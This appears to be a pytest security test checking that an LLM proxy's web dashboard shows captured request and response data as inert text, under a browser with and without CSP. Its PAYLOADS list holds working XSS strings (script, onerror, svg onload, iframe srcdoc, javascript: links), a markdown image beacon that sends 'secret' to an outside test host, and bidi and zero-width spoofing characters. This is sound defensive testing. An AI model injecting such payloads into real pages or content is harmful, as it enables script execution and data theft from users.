"""Captured content is untrusted: payloads planted in every captured field must show as text.

Requests carrying hostile strings go through a real proxy to a loopback upstream that answers
with hostile strings too (content, tool calls, error messages). Then every page is opened in a real
browser, with and without the Content-Security-Policy (so the text-only rendering is tested on its
own, not just the CSP behind it): no script runs (a window flag is never set, no dialog opens), no
request leaves the proxy's origin, no link points elsewhere, and the payloads appear literally.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from prysmai import _wire

from .. import browser as b
from ..conftest import KEY, ThreadedServer

pytestmark = pytest.mark.timeout(240)

OUTSIDE = "http://203.0.113.9"  # TEST-NET-3: never routed
PAYLOADS = [
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "javascript:window.__pwned='link'",
    "</textarea></pre></code><svg onload=\"window.__pwned='svg'\"></svg>",
    f"<style>body{{background:url({OUTSIDE}/css)}}</style><link rel=stylesheet href={OUTSIDE}/x.css>",
    f'<svg><a href="javascript:window.__pwned=\'svga\'"><image href="{OUTSIDE}/i.png"/></a></svg>',
    f"![exfil]({OUTSIDE}/leak?d=secret) <iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">",
    "\u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff \u2066isolate\u2069 {{7*7}} ${7*7}",
]
ALL = " | ".join(PAYLOADS)
_HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]")
_MARK = re.compile("\u27e8U\\+([0-9A-F]{4})\u27e9")


def shown(text: str) -> str:
    """How the dashboard displays captured text: hidden and bidi characters as visible marks."""
    return _HIDDEN.sub(lambda m: f"\u27e8U+{ord(m.group()):04X}\u27e9", text)


def unshown(text: str) -> str:
    return _MARK.sub(lambda m: chr(int(m.group(1), 16)), text)


#: A score category may hold neither markup characters nor controls, but braces, bidi overrides...
SCORE_CATEGORY = "{{7*7}} ${7*7} \u202egnp.exe"
FAIL_MODEL = "<img src=x onerror=\"window.__pwned='model'\">fail"


class HostileUpstream:
    """Answers chat completions with the request's own hostile strings: as content, as a tool call,
    or (for FAIL_MODEL) as an error message."""

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "lifespan":
            while True:
                message = await receive()
                kind = "complete" if message["type"] == "lifespan.startup" else None
                await send({"type": "lifespan.startup.complete" if kind else "lifespan.shutdown.complete"})
                if not kind:
                    return
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        doc = json.loads(body)
        if doc.get("model") == FAIL_MODEL:
            status, answer = 400, {"error": {"message": ALL, "type": ALL, "code": "<b>x</b>"}}
        else:
            call = {"id": "call_<i>1</i>", "type": "function", "function": {"name": PAYLOADS[1], "arguments": ALL}}
            message = {"role": "assistant", "content": ALL, "tool_calls": [call]}
            status = 200
            answer = {
                "id": "chatcmpl-<script>",
                "object": "chat.completion",
                "created": 1,
                "model": PAYLOADS[0],
                "choices": [{"index": 0, "message": message, "finish_reason": PAYLOADS[3]}],
                "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
            }
        headers = [(b"content-type", b"application/json"), (b"x-request-id", _wire.encode_id(PAYLOADS[2]).encode())]
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": json.dumps(answer).encode()})


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    yield from b.launch()


@pytest.fixture
def hostile_store(start_proxy: Any) -> Any:
    upstream = ThreadedServer(HostileUpstream()).start()
    try:
        proxy = start_proxy(upstream.url + "/v1")
        url = f"{proxy.base_url}/chat/completions"
        headers = {
            "Authorization": f"Bearer {KEY}",
            "X-Prysm-User-Id": _wire.encode_id(PAYLOADS[1] + PAYLOADS[7]),
            "X-Prysm-Session-Id": _wire.encode_id(PAYLOADS[3]),
            "X-Prysm-Metadata": _wire.encode_metadata({p: p for p in PAYLOADS} | {"nested": {"x": PAYLOADS[0]}}),
        }
        messages = [
            {"role": "system", "content": PAYLOADS[4]},
            {
                "role": "user",
                "content": [
                    {"type": "text", "text": ALL},
                    {"type": "image_url", "image_url": {"url": f"{OUTSIDE}/img.png"}},
                ],
            },
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": PAYLOADS[0], "type": "function", "function": {"name": PAYLOADS[5], "arguments": ALL}}
                ],
            },
            {"role": "tool", "tool_call_id": PAYLOADS[0], "content": PAYLOADS[6]},
            {"role": PAYLOADS[0], "content": PAYLOADS[7]},
        ]
        for model in (PAYLOADS[0], FAIL_MODEL):
            r = httpx.post(url, json={"model": model, "messages": messages, PAYLOADS[1]: PAYLOADS[2]}, headers=headers)
            assert r.status_code in (200, 400)
        # The endpoint (the path below /api/v1) is captured too.
        r = httpx.post(f"{proxy.base_url}/{quote(PAYLOADS[1], safe='')}", json={"model": "m"}, headers=headers)
        assert r.status_code == 200
        traces = proxy.traces()
        assert len(traces) == 3 and {t["status"] for t in traces} == {"success", "error"}
        assert traces[-1]["endpoint"] == PAYLOADS[1]
        # Scores are captured content too: a hostile comment and category on every trace.
        for t in traces:
            for score in ({"name": "review", "value": SCORE_CATEGORY, "comment": ALL}, {"name": "n", "value": 1}):
                r = httpx.post(f"{proxy.base_url}/traces/{t['id']}/scores", json=score, headers=headers)
                assert r.status_code == 201, r.text
        yield proxy, traces
    finally:
        upstream.stop()


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "without-csp"])
def test_hostile_content_is_shown_as_text(chromium: Any, hostile_store: Any, bypass_csp: bool) -> None:
    proxy, traces = hostile_store
    base = proxy.server.url
    context = chromium.new_context(viewport=b.DESKTOP, bypass_csp=bypass_csp)
    page = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    b.login(page, base, KEY)
    session = traces[0]["session_id"]
    user = traces[0]["user_id"]
    assert session == PAYLOADS[3] and user == PAYLOADS[1] + PAYLOADS[7]
    pages = [
        "/?since=all",
        "/traces?since=all",
        "/traces?" + "&".join(f"{k}={quote(v, safe='')}" for k, v in {"user": user, "q": "script"}.items()),
        "/sessions?since=all",
        "/users?since=all",
        "/sessions/" + quote(session, safe=""),
        *(f"/traces/{t['id']}" for t in traces),
    ]
    for path in pages:
        b.goto(page, base + path)
        page.wait_for_timeout(150)  # let any (wrongly) injected handler fire
        assert page.evaluate("window.__pwned") is None, path
        assert (
            page.evaluate("document.querySelectorAll('script:not([src]), iframe, img, style, link[href^=http]').length")
            == 0
        ), path
        hrefs = page.eval_on_selector_all("a[href]", "as => as.map(a => a.href)")
        assert all(h.startswith(base + "/") for h in hrefs), [h for h in hrefs if not h.startswith(base + "/")]
        text = page.inner_text("main")
        if path == f"/traces/{traces[-1]['id']}":
            assert f"POST /api/v1/{PAYLOADS[1]}" in text
        elif path.startswith("/traces/"):
            for expected in (*PAYLOADS[:7], shown(PAYLOADS[7])):
                assert expected in text, (path, expected)
            scores = page.inner_text("#score-list")
            assert shown(ALL) in scores and shown(SCORE_CATEGORY) in scores, path
            # The raw JSON block shows the body as it was captured (hidden characters marked).
            raw = json.loads(unshown(page.text_content("#raw-request")))
            assert raw["messages"][1]["content"][0]["text"] == ALL
        # No invisible or direction-changing character reaches the screen unmarked.
        assert not _HIDDEN.search(text), (path, _HIDDEN.findall(text))
        if path.startswith("/traces?"):
            assert shown(SCORE_CATEGORY) in text, path  # the list's score column
        if path.startswith("/sessions/"):
            assert PAYLOADS[3] in text and shown(PAYLOADS[7]) in text
        b.screenshot(page, "hostile-" + ("csp" if not bypass_csp else "nocsp") + "-" + str(pages.index(path)))
    # The error trace shows the upstream's hostile message as text.
    error_trace = next(t for t in traces if t["status"] == "error")
    b.goto(page, f"{base}/traces/{error_trace['id']}")
    assert shown(ALL) in page.text_content(".detail-side .error-text")
    assert page.evaluate("window.__pwned") is None
    context.close()
    assert not dialogs
    outside = [u for u in requests if not u.startswith(base + "/")]
    assert not outside, outside
